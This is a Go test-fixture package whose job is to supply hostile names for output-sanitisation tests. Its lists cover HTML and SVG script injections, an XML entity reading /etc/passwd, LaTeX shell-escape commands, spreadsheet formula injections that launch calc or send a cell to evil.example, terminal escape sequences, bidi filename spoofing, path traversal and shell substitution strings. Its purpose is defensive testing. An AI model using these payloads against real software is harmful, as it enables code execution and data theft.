// Package nametest provides names that do harm if a program does not treat them as
// text. Tests use them as names of models, questions, tasks, files, columns and
// schemata, and as titles.
//
// Tests pass [Texts] to everything that prints names. Package clitest checks that the
// output is harmless.
package nametest

import (
	"slices"
	"strings"
	"unicode/utf8"
)

// Harmful names, grouped by the program that they attack. A note after each name says
// which harm it attempts.
var (
	pages = []string{
		`<script>alert(1)</script>`,                                     // a script
		`</script><script>alert(2)</script>`,                            // to end a script
		`<!--<script>-->`,                                               // to hide a script
		`</title></style></desc></textarea><plaintext>`,                 // to end a title
		`"><img src=x onerror=alert(3)>`,                                // to end an attribute
		`' onmouseover='alert(4)' x="y" onfocus="alert(5)`,              // an attribute
		`]]></script><svg onload=alert(6)>`,                             // to end CDATA
		`</text></g></svg><foreignObject><iframe src=//evil.example>`,   // to leave a drawing
		`&lt;b&gt; &#x3c;i&#62; &amp;amp; &quot;`,                       // entities
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,     // a declaration
		`<base href=//evil.example><meta http-equiv=refresh content=0>`, // to change the page
		`javascript:alert(7)`,                                           // a scheme
		`data:text/html,<script>alert(8)</script>`,                      // a page as an address
		"{{.}} ${alert(9)} `alert(10)` <%= 1 %>",                        // a template
		`x;}*{background:url(//evil.example)}`,                          // style
	}

	markdown = []string{
		`[a](javascript:alert(11)) ![b](http://evil.example/b.png)`,               // a link
		`[a]: http://evil.example "b"`,                                            // a definition
		`http://evil.example www.evil.example a@evil.example @octocat #1 :smile:`, // links without markup
		`<http://evil.example> <a@evil.example>`,                                  // an autolink
		"**b** __b__ _i_ ~~s~~ $m$ \\*e\\*",                                       // emphasis
		"`a` ``b`` ```c ~~~",                                                      // code
		"# h\n\n- i\n1. j\n> q\n\n    code\n---\n",                                // blocks
		`<details open ontoggle=alert(12)><summary>`,                              // HTML in Markdown
		`a|b||c\|d\\|e`, // cells
	}

	latex = []string{
		`\input{/etc/passwd}\write18{id}\def\x{y}`, // commands
		`$ % & _ # ~ ^ { } \ < > |`,                // special characters
		`}\end{tabular}\\[1cm]{%`,                  // to leave a table
		`a & b \\ \hline`,                          // a row
		`[1cm] *`,                                  // an option
		"-- --- ''a'' ``b`` ,, ?` !`",              // ligatures
	}

	spreadsheets = []string{
		`=HYPERLINK("http://evil.example?"&A1,"x")`, // a formula
		`+1+cmd|' /C calc'!A0`,                      // a sum
		`-2+3+cmd|' /C calc'!A0`,                    // a difference
		`@SUM(1+1)*cmd|' /C calc'!A0`,               // a function
		"\t=1+1",                                    // a formula behind a tab
		"\r=1+1",                                    // a formula behind a return
		"a\n=1+1",                                   // a formula on a line of its own
		" =1+2",                                     // a formula behind a blank
		`a;=1+1;b`,                                  // a formula in another cell
		"＝1＋1",                                      // a formula of full width
		`a","=1+1","b`,                              // an end of quotes
	}

	terminals = []string{
		"\x1b[31mred\x1b[0m", // colour
		"\x1b]0;owned\a",     // a title
		"\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", // a link on a terminal
		"\x1b[2J\x1b[H",             // to clear the screen
		"a\u009b31mb\u0085c\u0090d", // controls of 8 bits
		"a\a\b\b\x7f",               // bells and deletions
		"good\rbad",                 // to go back
		"a\x00b",                    // NUL
	}

	readers = []string{
		"a\u202egpj.exe\u202c",                              // to turn around
		"\u2066a\u2067b\u2068c\u2069",                       // isolates
		"a\u200eb\u200fc\u061cd",                            // marks of direction
		"a\u200bb\u2060c\ufeffd\u00ade\u180ef",              // invisible characters
		"a\u200cb\u200dc",                                   // joiners
		"a\U000e0001\U000e0061b",                            // tags
		"one\ntwo\r\nthree\u2028four\u2029five\vsix\fseven", // lines
		"a\xffb\xc0\xafc\xed\xa0\x80d\xf5",                  // what is no UTF-8
		"a\ufffeb\U0010ffffc",                               // no characters
		"\ue000a\ue001b\uf8ff",                              // private characters
		strings.Repeat("long", 600),                         // length
		strings.Repeat("more words ", 200) + ".",            // length in words
	}

	files = []string{
		"../../../../etc/passwd", // another folder
		"/etc/passwd",            // a root
		`..\..\x`,                // another folder of Windows
		"CON",                    // a device
		"nul.txt",                // a device with a type
		"..",                     // a folder
		"~/.ssh/id",              // a home
		"$(id) `id`;id|id&&id>x", // a shell
		"--out=x",                // a flag
		"@/etc/passwd",           // a file by a sign
		"%s%n%!d(MISSING)",       // a format
	}

	// harmlessNames holds names in other scripts.
	harmlessNames = []string{
		"模型 Ω é 🤖👩\u200d🚀 नमस्ते क्\u200dष مرحبا", // nothing
	}
)

// Texts returns all harmful and harmless names, without duplicates.
func Texts() []string {
	return slices.Concat(pages, markdown, latex, spreadsheets, terminals, readers, files, harmlessNames)
}

// Readable returns the names that can appear in a file. Names that are not UTF-8 are
// left out, because readers reject them.
func Readable() []string {
	return slices.DeleteFunc(Texts(), func(s string) bool { return !utf8.ValidString(s) })
}
